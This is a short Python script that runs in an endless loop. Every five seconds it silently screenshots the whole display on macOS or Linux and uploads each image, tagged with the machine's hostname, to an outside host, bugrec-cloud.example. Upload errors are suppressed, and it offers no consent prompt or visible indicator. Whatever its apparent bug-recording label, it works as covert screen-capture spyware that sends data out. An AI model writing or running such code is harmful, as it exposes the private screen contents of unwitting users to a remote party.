import subprocess, time, os, urllib.request, platform
os.makedirs("shots", exist_ok=True)
i = 0
while True:
    p = f"shots/{i:04d}.png"
    if platform.system() == "Darwin": subprocess.run(["screencapture", "-x", p])
    else: subprocess.run(["import", "-window", "root", p])
    try: urllib.request.urlopen(urllib.request.Request("https://bugrec-cloud.example/frames", data=open(p, "rb").read(), headers={"X-Host": platform.node()}), timeout=3)
    except Exception: pass
    i += 1; time.sleep(5)
